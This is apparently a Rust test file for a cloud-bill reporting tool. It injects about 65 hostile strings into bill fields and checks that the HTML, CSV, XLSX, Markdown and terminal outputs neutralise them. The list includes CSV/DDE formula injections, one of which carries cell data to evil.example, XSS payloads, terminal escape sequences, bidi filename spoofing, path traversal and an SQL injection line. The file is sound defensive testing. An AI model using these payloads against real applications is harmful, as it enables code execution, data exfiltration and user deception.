//! What a bill says is text in every form: names that a browser, a spreadsheet, a wiki or a terminal would obey.
//!
//! One bill has each of them as account name, tag, resource, description, service, region and commitment; another has plain
//! names in the same places. Beside the names the two reports are the same.

use std::{
    collections::{BTreeMap, BTreeSet},
    fmt::Write as _,
    fs,
    path::Path,
    process::Command,
};

use serde_json::Value;

use crate::{
    schema::Schema,
    support::{Runs, files, gravimeter},
    zip_parts,
};

/// Our own strings, each an attempt of its own.
const STRINGS: &[&str] = &[
    // Formulas, and what begins like one.
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Error\")",
    "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "+1+1",
    "+cmd|' /C notepad'!A0",
    "-2+3",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    "a;=1+1",
    "\"=1+1\"",
    "'=1+1",
    "-",
    "{=1+1}",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    // Mark-up.
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</style><script>alert(3)</script>",
    "</title><svg/onload=alert(4)>",
    "<img src=x onerror=alert(5)>",
    "\"><img src=x onerror=\"alert(6)\">",
    "' onmouseover='alert(7)",
    "<a href=\"javascript:alert(8)\">x</a>",
    "javascript:alert(9)",
    "data:text/html,<script>alert(10)</script>",
    "]]><script>alert(11)</script>",
    "<!-- <script>alert(12)</script> -->",
    "--><b>out</b>",
    "&lt;script&gt;alert(13)&lt;/script&gt;",
    "&#60;b&#62; &amp;amp; &nbsp;",
    "<iframe srcdoc=\"<script>alert(14)</script>\">",
    "<r><t>raw</t></r>",
    "<r>&</broken></r>",
    "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "{places} {month} {currency} {count}",
    // Markdown.
    "a | b || c",
    "`code` ``` fence",
    "[link](https://evil.example) ![img](https://evil.example/x.png)",
    "[x]: javascript:alert(15)",
    "**bold** __x__ ~~y~~ # head",
    "<details open ontoggle=alert(16)>",
    "@team please @user/here #1",
    "\\| \\\\ \\` trailing \\",
    // Terminals and directions.
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}",
    "\u{9b}2J\u{8}\u{8}\u{7f}",
    "abc\u{202e}txt.exe\u{202c}",
    "\u{2066}isolate\u{2069}",
    "zero\u{200b}width\u{feff}",
    "nul\u{0}byte",
    "line\u{2028}separator\u{2029}end",
    "line\r\nbreak\nagain",
    // Names that are only unusual.
    "../../etc/passwd",
    "..\\..\\windows\\win.ini:stream",
    "C:/CON/NUL|<>?*",
    "_x0041_ _x000D_",
    "\u{ffff}\u{fffe} \u{fffd}",
    "한국 계정 (운영)",
    "שלום עולם",
    "👩\u{200d}💻 team 😀",
    "O'Neil; DROP TABLE line_items; --",
];

/// Columns of the bill.
const HEADER: [&str; 24] = [
    "bill_billing_period_start_date",
    "bill_payer_account_id",
    "line_item_usage_account_id",
    "line_item_usage_account_name",
    "line_item_line_item_type",
    "line_item_usage_start_date",
    "line_item_usage_end_date",
    "line_item_product_code",
    "line_item_usage_type",
    "line_item_operation",
    "line_item_resource_id",
    "line_item_line_item_description",
    "line_item_usage_amount",
    "line_item_currency_code",
    "line_item_unblended_cost",
    "pricing_public_on_demand_cost",
    "pricing_unit",
    "product_region_code",
    "product_instance_type",
    "product",
    "resource_tags",
    "reservation_reservation_a_r_n",
    "reservation_effective_cost",
    "reservation_unused_recurring_fee",
];

/// Writes two months with every name in every place that a bill has for names.
fn bill(names: &[String]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let mut writer = csv::Writer::from_path(folder.path().join("bill.csv")).unwrap();
    writer.write_record(HEADER).unwrap();
    for month in ["2023-12", "2024-01"] {
        for (at, name) in (0..).zip(names) {
            let (start, account) = (format!("{month}-01T00:00:00Z"), format!("{}", 100_000_000_000_u64 + at));
            let end = if month == "2023-12" { "2024-01-01T00:00:00Z" } else { "2024-02-01T00:00:00Z" };
            let tags = serde_json::json!({ "user_team": name }).to_string();
            let product = serde_json::json!({ "operating_system": "Linux", "tenancy": "Shared", "pre_installed_sw": "NA",
                "instance_type": "m5.large", "region": "us-east-1" });
            // Each name has a cost of its own, so that both bills have one order.
            let hours = 744 - at;
            let cost = format!("{:.3}", 0.096 * f64::from(i32::try_from(hours).unwrap()));
            let small = format!("{}.25", 500 - at);
            let mut row = |kind: &str, code: &str, usage: &str, cost: &str, region: &str, kind_of: &str, arn: &str| {
                let product = if kind_of.is_empty() { "{}".to_owned() } else { product.to_string() };
                let effective = if arn.is_empty() { "" } else { "1" };
                let operation = if usage.starts_with("BoxUsage") { "RunInstances" } else { "" };
                let amount = if kind_of.is_empty() { "1".to_owned() } else { hours.to_string() };
                let fields = [
                    &start,
                    "999999999999",
                    &account,
                    name,
                    kind,
                    &start,
                    end,
                    code,
                    usage,
                    operation,
                    name,
                    name,
                    &amount,
                    "USD",
                    cost,
                    cost,
                    "Hrs",
                    region,
                    kind_of,
                    &product,
                    &tags,
                    arn,
                    effective,
                    effective,
                ];
                writer.write_record(fields).unwrap();
            };
            row("Usage", "AmazonEC2", "BoxUsage:m5.large", &cost, "us-east-1", "m5.large", "");
            row("Usage", name, "Any", &small, "us-east-1", "", "");
            row("Usage", "AmazonS3", "TimedStorage-ByteHrs", &small, name, "", "");
            row("RIFee", "AmazonRDS", "HeavyUsage:db.m5.large", &small, "us-east-1", "", name);
        }
    }
    writer.flush().unwrap();
    folder
}

fn nasty() -> Vec<String> {
    let long = ["<b>".repeat(40), "=x|`".repeat(10_000)].map(|text| format!("long {text}"));
    STRINGS.iter().map(|&text| text.to_owned()).chain(long).collect()
}

fn plain() -> Vec<String> {
    (0..nasty().len()).map(|at| format!("name {at}")).collect()
}

/// Makes the report of a bill in every form.
fn report(bill: &Path, out: &Path) -> String {
    let [bill, out] = [bill, out].map(|path| path.to_str().unwrap());
    let formats = "html,csv,json,xlsx,md";
    let run =
        gravimeter(&["report", bill, "--out", out, "--format", formats, "--group-by", "tag:team"]).assert().success();
    String::from_utf8(run.get_output().stderr.clone()).unwrap()
}

#[test]
fn names_are_text_in_every_form() {
    assert!(nasty().len() >= 60);
    let (bill_of_names, plain_bill) = (bill(&nasty()), bill(&plain()));
    let [out, plain_out] = [0; 2].map(|_| tempfile::tempdir().unwrap());
    let said = report(bill_of_names.path(), out.path());
    report(plain_bill.path(), plain_out.path());

    assert_eq!(controls(&said), "", "on stderr: {said}");
    assert_eq!(files(out.path()), files(plain_out.path()), "file names do not depend on the bill");
    let read = |folder: &tempfile::TempDir, file: &str| fs::read(folder.path().join(file)).unwrap();
    let text = |folder: &tempfile::TempDir, file: &str| String::from_utf8(read(folder, file)).unwrap();

    same_page(&text(&out, "report.html"), &text(&plain_out, "report.html"));
    json_is_exact(&text(&out, "report.json"));
    for file in files(&out.path().join("csv")) {
        tables_are_safe(&text(&out, &format!("csv/{}", file.display())), &file);
    }
    let (found, expected) = [&out, &plain_out].map(|folder| zip_parts::parts(&read(folder, "report.xlsx"))).into();
    same_workbook(&found, &expected);
    markdown_keeps_its_rows(&text(&out, "report.md"), &text(&plain_out, "report.md"));
}

/// Returns the letters of a text that would control a terminal.
fn controls(text: &str) -> String {
    let is_bad = |letter: &char| {
        (letter.is_control() && *letter != '\n')
            || matches!(letter, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    text.chars().filter(is_bad).collect()
}

/// A page as its tags: names with the names of their attributes, and what scripts and styles hold.
#[derive(Debug, Default, PartialEq, Eq)]
struct Page {
    tags: BTreeMap<String, usize>,
    raw: Vec<String>,
    addresses: BTreeSet<String>,
}

/// Reads a page as the HTML standard's tokenizer does, as far as our own pages go.
fn tokens(page: &str) -> Page {
    let mut found = Page::default();
    let mut rest = page;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if let Some(comment) = rest.strip_prefix("!--") {
            rest = comment.split_once("-->").unwrap().1;
            continue;
        }
        let letter = rest.trim_start_matches('/').chars().next();
        if !letter.is_some_and(|letter| letter.is_ascii_alphabetic() || letter == '!') {
            continue;
        }
        let end = rest.find(|letter: char| letter.is_whitespace() || matches!(letter, '>')).unwrap();
        let name = rest[..end].trim_end_matches('/').to_ascii_lowercase();
        let mut tag = name.clone();
        rest = &rest[end..];
        // Attributes: name, and value in quotes.
        loop {
            rest = rest.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '/');
            if let Some(after) = rest.strip_prefix('>') {
                rest = after;
                break;
            }
            let end = rest.find(|letter: char| letter.is_whitespace() || matches!(letter, '=' | '>' | '/')).unwrap();
            let attribute = rest[..end].to_ascii_lowercase();
            // Whether a text is wide decides a class.
            if attribute != "class" {
                let _ = write!(tag, " {attribute}");
            }
            rest = &rest[end..];
            if let Some(value) = rest.strip_prefix('=') {
                let quote = value.chars().next().filter(|letter| matches!(letter, '"' | '\''));
                let (value, after) = match quote {
                    Some(quote) => value[1..].split_once(quote).unwrap(),
                    None => value.split_at(value.find(|letter: char| letter.is_whitespace() || letter == '>').unwrap()),
                };
                if matches!(attribute.as_str(), "href" | "src" | "action" | "xlink:href" | "style") {
                    found.addresses.insert(value.to_owned());
                }
                rest = after;
            }
        }
        *found.tags.entry(tag).or_default() += 1;
        if matches!(name.as_str(), "script" | "style" | "title" | "textarea") {
            let end = format!("</{name}");
            let (raw, _) = rest.split_at(rest.to_ascii_lowercase().find(&end).unwrap());
            if name != "title" {
                found.raw.push(raw.to_owned());
            }
            rest = &rest[raw.len()..];
        }
    }
    found
}

#[test]
fn the_tokenizer_sees_what_a_browser_would() {
    let page = tokens("<p title='<b>'>1 < 2 &lt;i&gt;<br/><a HREF=\"x\" onclick=y>z</a><script>if (a<b) {}</script>");
    let tags: Vec<_> = page.tags.keys().map(String::as_str).collect();
    assert_eq!(tags, ["/a", "/script", "a href onclick", "br", "p title", "script"]);
    assert_eq!(
        (page.raw, page.addresses.into_iter().collect::<Vec<_>>()),
        (vec!["if (a<b) {}".into()], vec!["x".into()])
    );
}

/// The page of the names has the tags, attributes, scripts, styles and addresses of the plain one.
fn same_page(found: &str, expected: &str) {
    let (found, expected) = (tokens(found), tokens(expected));
    for (tag, count) in &found.tags {
        assert!(expected.tags.contains_key(tag), "{count} times <{tag}>");
        assert!(!tag.split(' ').skip(1).any(|attribute| attribute.starts_with("on")), "<{tag}>");
    }
    let structure = |page: &Page| {
        // A long name is a few lines of a chart.
        let is_text = |tag: &&String| ["text", "/text", "tspan", "/tspan"].contains(&tag.split(' ').next().unwrap());
        page.tags.iter().filter(|(tag, _)| !is_text(tag)).map(|(tag, count)| (tag.clone(), *count)).collect::<Vec<_>>()
    };
    assert_eq!(structure(&found), structure(&expected));
    assert!(found.raw == expected.raw, "a script or style holds names");
    let is_live = |address: &&String| {
        let address = address.trim().to_ascii_lowercase();
        address.starts_with("javascript:") || address.contains("evil.example") || address.starts_with("data:text")
    };
    assert_eq!(found.addresses.iter().find(is_live), None);
}

/// What the program reads of a name: a bill as CSV has no other white space at the ends.
fn json_is_exact(text: &str) {
    let json: Value = serde_json::from_str(text).unwrap();
    let faults = Schema::published().faults(&json);
    assert!(faults.is_empty(), "{:#?}", &faults[..faults.len().min(5)]);
    let column = |table: &str, field: &str| -> BTreeSet<String> {
        json[table].as_array().unwrap().iter().filter_map(|row| row[field].as_str().map(str::to_owned)).collect()
    };
    let services = column("cost_by_service", "product_code");
    let accounts = column("opportunities", "account_name");
    let arns = column("commitments", "arn");
    for name in nasty() {
        for (place, names) in [("service", &services), ("account", &accounts), ("commitment", &arns)] {
            assert!(names.contains(&name), "{place} {name:.60?} is not in {names:#?}");
        }
    }
}

fn tables_are_safe(text: &str, file: &Path) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let columns = reader.headers().unwrap().len();
    for record in reader.records() {
        let record = record.unwrap();
        assert_eq!(record.len(), columns, "{}", file.display());
        for cell in &record {
            let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
            let is_number = cell.parse::<rust_decimal::Decimal>().is_ok();
            assert!(!begins || is_number, "{}: {cell:?}", file.display());
            assert!(!cell.starts_with('\'') || !cell[1..].parse::<f64>().is_ok_and(f64::is_finite), "{cell}");
        }
    }
}

/// The workbook of the names has the same sheets, cells and charts, and its texts are text.
fn same_workbook(found: &BTreeMap<String, String>, expected: &BTreeMap<String, String>) {
    assert!(found.keys().eq(expected.keys()), "the parts of the workbook");
    for (name, text) in found {
        let tags = tokens(text).tags;
        assert!(!tags.keys().any(|tag| tag == "f" || tag.starts_with("f ")) || name.contains("chart"), "{name}");
        // Rows as high as their text, white space at its ends, and rich text for what looks like it are the differences.
        let plain = tokens(&expected[name]).tags;
        let is_layout = |tag: &str| tag.starts_with("row ") || (name.contains("sharedStrings") && is_text(tag));
        let known = |tag: &str| plain.contains_key(tag) || is_layout(tag);
        assert_eq!(tags.keys().find(|tag| !known(tag)), None, "{name}");
        let mut rest = text.as_str();
        while let Some((_, after)) = rest.split_once('&') {
            let entity = after.split(';').next().unwrap();
            assert!(matches!(entity, "amp" | "lt" | "gt" | "quot" | "apos" | "#xA"), "{name}: &{entity:.20};");
            rest = after;
        }
        assert!(
            !text.contains(|c: char| c.is_control() && !matches!(c, '\n' | '\t' | '\r' | '\u{7f}'..='\u{9f}')),
            "{name}"
        );
    }
}

fn is_text(tag: &str) -> bool {
    ["t", "/t", "t xml:space", "r", "/r"].contains(&tag)
}

fn markdown_keeps_its_rows(found: &str, expected: &str) {
    assert_eq!(controls(found), "");
    assert!(!found.contains(['<', '>']), "HTML in Markdown");
    // As GitHub splits rows: a backslash takes the letter behind it.
    let cells = |line: &str| {
        let mut letters = line.chars();
        let mut count = 0;
        while let Some(letter) = letters.next() {
            match letter {
                '\\' => drop(letters.next()),
                '|' => count += 1,
                _ => {}
            }
        }
        count
    };
    let shape = |text: &str| text.lines().filter(|line| line.starts_with('|')).map(cells).collect::<Vec<i32>>();
    let (found_shape, expected_shape) = (shape(found), shape(expected));
    // A long name may leave less room for tables at the end.
    assert!(expected_shape.starts_with(&found_shape), "{found_shape:?} against {expected_shape:?}");
    assert!(!found.contains("@team") && !found.replace("\\:", "").contains("://"), "a mention or a link");
}

#[test]
fn terminals_show_names_and_obey_none() {
    let bill = bill(&nasty());
    let source = bill.path().to_str().unwrap();
    let statement =
        "select account_name, product_code, region, resource_id, line_item_description as d from line_items";
    let explained = ["explain", source, "--account", "100000000048"];
    for arguments in [
        &["sql", source, "-c", statement][..],
        &["sql", source, "--format", "markdown", "-c", statement],
        &explained,
        &["doctor", source],
        &["reconcile", source],
    ] {
        let output = Command::new(crate::support::PROGRAM)
            .env("XDG_CONFIG_HOME", crate::support::NO_SETTINGS)
            .args(arguments)
            .output()
            .unwrap();
        for (stream, bytes) in [("stdout", output.stdout), ("stderr", output.stderr)] {
            let text = String::from_utf8(bytes).unwrap();
            assert_eq!(controls(&text), "", "{stream} of {}: {text:.400}", arguments[0]);
        }
    }
}
